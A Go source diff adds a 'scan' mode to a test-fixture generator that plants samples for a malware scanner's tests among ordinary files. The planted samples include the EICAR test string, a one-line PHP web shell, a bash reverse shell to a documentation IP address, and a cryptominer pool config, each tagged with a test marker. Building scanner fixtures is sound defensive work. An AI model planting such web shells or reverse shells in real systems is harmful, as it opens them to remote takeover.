@@ -226,8 +226,49 @@ func fragTree() {
 	}
 }
 
+// eicar is the EICAR anti-virus test file.
+const eicar = `X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`
+
+// scanTree plants artefacts for the scan tests among ordinary files: in a
+// nested directory, in a sparse file after a hole, in a file larger than a
+// scan block, straddling the 4 MiB block boundary, and at the very end of a
+// big file. Every planted file also carries a marker string that the test
+// rules of testdata/rules match.
+func scanTree() {
+	n := 0
+	next := func() int { n++; return n }
+	for d := 0; d < 5; d++ {
+		for f := 0; f < 40; f++ {
+			file(fmt.Sprintf("usr/share/doc/pkg%d/file%02d.txt", d, f), content(fmt.Sprintf("doc%d/%d", d, f), int64(f*173)), 0o644, 0, 0, next())
+		}
+	}
+	file("etc/hostname", []byte("scan-fixture\n"), 0o644, 0, 0, next())
+	file("var/www/html/a/b/c/d/e/shell.php", []byte("<?php @eval(base64_decode($_POST['cmd'])); // VMSCOPE_MARKER_NESTED\n?>\n"), 0o644, 33, 33, next())
+	// Sparse: EICAR 50 MiB into the file, after a hole.
+	p := filepath.Join(root, "srv/data/sparse.img")
+	must(os.MkdirAll(filepath.Dir(p), 0o755))
+	f, err := os.Create(p)
+	must(err)
+	_, err = f.WriteAt([]byte(eicar), 50<<20)
+	must(err)
+	must(f.Truncate(64 << 20))
+	must(f.Close())
+	stamp(p, next())
+	// Big: 9 MiB of text (the default rules look at files under 10 MB); a
+	// reverse shell straddling the 4 MiB boundary,
+	// a miner config in the middle, a marker in the last bytes.
+	big := content("big-scan", 9<<20)
+	straddle := []byte("bash -i >& /dev/tcp/198.51.100.9/8443 0>&1 VMSCOPE_MARKER_STRADDLE")
+	copy(big[4<<20-20:], straddle)
+	copy(big[7<<20:], []byte(`{"donate-level": 1, "pools": [{"url": "stratum+tcp://pool.example.org:3333", "user": "x"}]} VMSCOPE_MARKER_MIDDLE`))
+	end := []byte("VMSCOPE_MARKER_END")
+	copy(big[len(big)-len(end):], end)
+	file("opt/app/blob.bin", big, 0o644, 0, 0, next())
+	file("home/bob/eicar.txt", []byte(eicar), 0o644, 1000, 1000, next())
+}
+
 func main() {
-	kind := flag.String("kind", "main", "main, small (no 100 MiB file), second, fat or frag")
+	kind := flag.String("kind", "main", "main, small (no 100 MiB file), second, fat, frag or scan")
 	flag.Parse()
 	if flag.NArg() != 1 {
 		log.Fatal("usage: gentree -kind KIND DIR")
@@ -246,6 +287,8 @@ func main() {
 		fatTree()
 	case "frag":
 		fragTree()
+	case "scan":
+		scanTree()
 	default:
 		log.Fatalf("unknown kind %q", *kind)
 	}
